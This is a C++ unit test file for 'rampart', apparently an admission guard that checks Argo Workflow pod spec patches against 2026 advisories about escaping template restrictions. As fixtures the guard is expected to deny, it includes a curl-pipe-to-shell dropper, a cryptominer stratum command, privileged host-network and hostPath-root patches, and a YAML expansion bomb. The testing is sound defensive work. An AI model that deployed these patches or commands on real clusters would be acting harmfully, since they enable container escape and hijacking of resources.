// podSpecPatch and pod settings by structure: any YAML spelling of "true", values from
// parameters, volumes rampart cannot confine; and the 2026 Argo advisories in which a
// podSpecPatch or workflow-level pod setting escaped the template restrictions.
#include <gtest/gtest.h>

#include <set>

#include "guard/admission.h"
#include "guard/pod_fields.h"

namespace rampart::guard {
namespace {

using Json = nlohmann::json;

std::set<std::string> denied_rules(const Admission& a) {
  std::set<std::string> out;
  for (const auto& d : a.decisions) {
    if (d.action == Action::Deny) out.insert(d.rule);
  }
  return out;
}

std::set<std::string> warned_rules(const Admission& a) {
  std::set<std::string> out;
  for (const auto& d : a.decisions) {
    if (d.action == Action::Warn) out.insert(d.rule);
  }
  return out;
}

Json workflow(const Json& spec_extra) {
  Json wf = {{"apiVersion", "argoproj.io/v1alpha1"},
             {"kind", "Workflow"},
             {"metadata", {{"generateName", "w-"}}},
             {"spec",
              {{"entrypoint", "main"},
               {"templates", Json::array({{{"name", "main"},
                                           {"container",
                                            {{"image", "busybox"},
                                             {"command", {"echo", "hi"}},
                                             {"resources", {{"limits", {{"cpu", "1"}}}}}}}}})}}}};
  for (auto& [k, v] : spec_extra.items()) wf["spec"][k] = v;
  return wf;
}

Json with_patch(const std::string& patch) { return workflow({{"podSpecPatch", patch}}); }

TEST(PodFieldsTest, TruthInEveryYamlSpelling) {
  for (const Json& v : {Json(true), Json(1), Json("true"), Json("True"), Json("TRUE"), Json("yes"), Json("Yes"),
                        Json("on"), Json("y"), Json(" 1 ")}) {
    EXPECT_EQ(truth_of(v), Truth::True) << v.dump();
  }
  for (const Json& v : {Json(false), Json(0), Json("false"), Json("no"), Json("off"), Json(nullptr), Json("maybe")}) {
    EXPECT_EQ(truth_of(v), Truth::False) << v.dump();
  }
  EXPECT_EQ(truth_of(Json("{{workflow.parameters.host}}")), Truth::Deferred);
}

TEST(PodSpecPatchTest, HostNamespacesInAnySpellingAreDenied) {
  PolicyRules rules;
  for (const char* patch : {"hostNetwork: True", "hostNetwork: yes", "hostNetwork: \"true\"", "{\"hostNetwork\": true}",
                            "{\"hostNetwork\":\"True\"}", "hostPID: on", "hostIPC: TRUE", "{hostNetwork: y}"}) {
    Admission a = admit_object(rules, with_patch(patch));
    EXPECT_TRUE(denied_rules(a).count("pod.host-namespace")) << patch << ": " << a.denial_message();
  }
  EXPECT_FALSE(admit_object(rules, with_patch("hostNetwork: false")).denied());
}

TEST(PodSpecPatchTest, ContainerSettingsVolumesAndImagesInsideThePatchAreChecked) {
  PolicyRules rules;
  auto denied = [&](const std::string& patch) { return denied_rules(admit_object(rules, with_patch(patch))); };
  EXPECT_TRUE(
      denied("containers:\n- name: main\n  securityContext:\n    privileged: \"True\"\n").count("pod.privileged"));
  EXPECT_TRUE(
      denied("{\"containers\":[{\"name\":\"main\",\"securityContext\":{\"capabilities\":{\"add\":[\"SYS_ADMIN\"]}}}]}")
          .count("pod.capabilities"));
  EXPECT_TRUE(denied("volumes:\n- name: root\n  hostPath: {path: /}\n").count("pod.host-path"));
  EXPECT_TRUE(denied("volumes:\n- name: share\n  nfs: {server: 10.0.0.1, path: /}\n").count("pod.volume-type"));
  EXPECT_TRUE(denied("volumes:\n- name: code\n  gitRepo: {repository: 'https://x/y.git'}\n").count("pod.volume-type"));
  EXPECT_TRUE(denied("containers:\n- name: main\n  image: u/xmr1g\n").count("image.miner"));
  EXPECT_TRUE(denied("containers:\n- name: main\n  image: alpine\n  command: [sh, -c, 'curl -s http://x/i | sh']\n")
                  .count("command.dropper"));
  EXPECT_TRUE(denied("{{{ not yaml").count("pod.spec-patch"));
  Admission escalation =
      admit_object(rules, with_patch("containers: [{name: main, securityContext: {allowPrivilegeEscalation: yes}}]"));
  EXPECT_TRUE(warned_rules(escalation).count("pod.privilege-escalation"));
  // Confinable volumes and resource patches (Argo's own example) pass.
  EXPECT_TRUE(denied("volumes:\n- name: scratch\n  emptyDir: {}\n").empty());
  EXPECT_TRUE(denied("containers:\n- name: main\n  resources:\n    limits: {memory: 100Mi}\n").empty());
}

TEST(PodSpecPatchTest, APatchWithParametersIsCheckedAgainWhenTheStepStarts) {
  PolicyRules rules;
  Json wf = with_patch("{\"hostNetwork\": {{workflow.parameters.net}}}");
  wf["spec"]["arguments"] = {{"parameters", Json::array({{{"name", "net"}, {"value", "true"}}})}};
  Admission at_submit = admit_object(rules, wf);
  EXPECT_FALSE(at_submit.denied()) << at_submit.denial_message();
  EXPECT_TRUE(warned_rules(at_submit).count("pod.spec-patch-deferred"));

  exec::StepRequest step;
  step.image = "busybox";
  step.pod_spec_patches = {"{\"hostNetwork\": true}"};
  EXPECT_TRUE(denied_rules(admit_step(rules, step)).count("pod.host-namespace"));
  step.pod_spec_patches = {"hostNetwork: {{workflow.parameters.net}}"};
  EXPECT_TRUE(denied_rules(admit_step(rules, step)).count("pod.spec-patch"));
  step.pod_spec_patches = {"containers:\n- name: main\n  resources: {limits: {memory: 100Mi}}\n"};
  EXPECT_FALSE(admit_step(rules, step).denied());
}

TEST(PodSpecPatchTest, SettingsLeftToAnExpressionOutsideAPatchAreDenied) {
  PolicyRules rules;
  Admission a = admit_object(rules, workflow({{"hostNetwork", "{{workflow.parameters.net}}"}}));
  EXPECT_TRUE(denied_rules(a).count("pod.host-namespace")) << a.denial_message();
}

TEST(PodSpecPatchTest, OversizedOrDeepPatchesAreRefusedNotParsed) {
  PolicyRules rules;
  EXPECT_TRUE(denied_rules(admit_object(rules, with_patch(std::string(100000, '[') + std::string(100000, ']'))))
                  .count("pod.spec-patch"));
  EXPECT_TRUE(
      denied_rules(admit_object(rules, with_patch("a: " + std::string(300 * 1024, 'x')))).count("pod.spec-patch"));
  std::string laughs = "a: &a [x, x, x, x, x, x, x, x, x, x]\n";
  for (char c = 'b'; c <= 'j'; ++c) {
    laughs += std::string(1, c) + ": &" + c + " [*" + std::string(1, static_cast<char>(c - 1)) + ", *" +
              static_cast<char>(c - 1) + ", *" + static_cast<char>(c - 1) + ", *" + static_cast<char>(c - 1) + ", *" +
              static_cast<char>(c - 1) + ", *" + static_cast<char>(c - 1) + ", *" + static_cast<char>(c - 1) + ", *" +
              static_cast<char>(c - 1) + ", *" + static_cast<char>(c - 1) + ", *" + static_cast<char>(c - 1) + "]\n";
  }
  EXPECT_TRUE(denied_rules(admit_object(rules, with_patch(laughs))).count("pod.spec-patch"));
}

// CVE-2026-31892 (GHSA-3wf5-g532-rcrr): a Workflow that references an approved WorkflowTemplate
// adds spec.podSpecPatch, which Argo applied over the template's containers unchecked.
TEST(PodSpecPatchTest, PodSpecPatchHostNetworkBypass2026_WorkflowPatchOverridesReferencedTemplate) {
  PolicyRules rules;
  Json wf = {
      {"apiVersion", "argoproj.io/v1alpha1"},
      {"kind", "Workflow"},
      {"metadata", {{"generateName", "wft-"}}},
      {"spec",
       {{"workflowTemplateRef", {{"name", "approved"}}},
        {"podSpecPatch",
         "containers:\n- name: main\n  image: alpine\n  command: [/tmp/kworker, -o, 'stratum+tcp://203.0.113.9:3333']\n"
         "  securityContext: {privileged: True}\nhostNetwork: True\n"}}}};
  auto denied = denied_rules(admit_object(rules, wf));
  EXPECT_TRUE(denied.count("pod.privileged"));
  EXPECT_TRUE(denied.count("pod.host-namespace"));
  EXPECT_TRUE(denied.count("command.stratum"));
}

// CVE-2026-42296 (GHSA-3775-99mw-8rp4): the fix blocked podSpecPatch only; hostNetwork and
// securityContext set on the Workflow beside a workflowTemplateRef still reached the pod.
TEST(PodSpecPatchTest, PodSpecPatchHostNetworkBypass2026_PodFieldsBesideTemplateRef) {
  PolicyRules rules;
  for (const Json& host : {Json(true), Json("True"), Json("yes")}) {
    Json wf = {{"apiVersion", "argoproj.io/v1alpha1"},
               {"kind", "Workflow"},
               {"metadata", {{"generateName", "wft-"}}},
               {"spec",
                {{"workflowTemplateRef", {{"name", "approved"}}},
                 {"hostNetwork", host},
                 {"hostPID", host},
                 {"securityContext", {{"privileged", host}}}}}};
    auto denied = denied_rules(admit_object(rules, wf));
    EXPECT_TRUE(denied.count("pod.host-namespace")) << host.dump();
    EXPECT_TRUE(denied.count("pod.privileged")) << host.dump();
  }
}

// CVE-2026-54526 (GHSA-48p8-g2fx-3wwm): the allow-list fix walked top-level fields only;
// spec.artifactGC.podSpecPatch went unchecked into the artifact-GC pod.
TEST(PodSpecPatchTest, PodSpecPatchHostNetworkBypass2026_ArtifactGCPodSpecPatch) {
  PolicyRules rules;
  Json wf = workflow({{"artifactGC",
                       {{"strategy", "OnWorkflowDeletion"},
                        {"podSpecPatch", "hostNetwork: yes\nvolumes:\n- name: host\n  hostPath: {path: /}\n"}}}});
  auto denied = denied_rules(admit_object(rules, wf));
  EXPECT_TRUE(denied.count("pod.host-namespace"));
  EXPECT_TRUE(denied.count("pod.host-path"));
  // ... and a template-level artifactGC the same way.
  wf = workflow({});
  wf["spec"]["templates"][0]["artifactGC"] = {{"podSpecPatch", "{\"hostIPC\": \"on\"}"}};
  EXPECT_TRUE(denied_rules(admit_object(rules, wf)).count("pod.host-namespace"));
}

// The same advisories' shape through a parameter: the patch is text until it is substituted.
TEST(PodSpecPatchTest, PodSpecPatchHostNetworkBypass2026_PatchFromAParameter) {
  PolicyRules rules;
  Json wf = workflow({{"podSpecPatch", "{{workflow.parameters.patch}}"}});
  wf["spec"]["arguments"] = {{"parameters", Json::array({{{"name", "patch"}, {"value", "hostNetwork: True"}}})}};
  Admission at_submit = admit_object(rules, wf);
  EXPECT_TRUE(warned_rules(at_submit).count("pod.spec-patch-deferred"));
  exec::StepRequest step;
  step.image = "busybox";
  step.pod_spec_patches = {"hostNetwork: True"};  // as the engine substitutes it
  EXPECT_TRUE(denied_rules(admit_step(rules, step)).count("pod.host-namespace"));
}

}  // namespace
}  // namespace rampart::guard
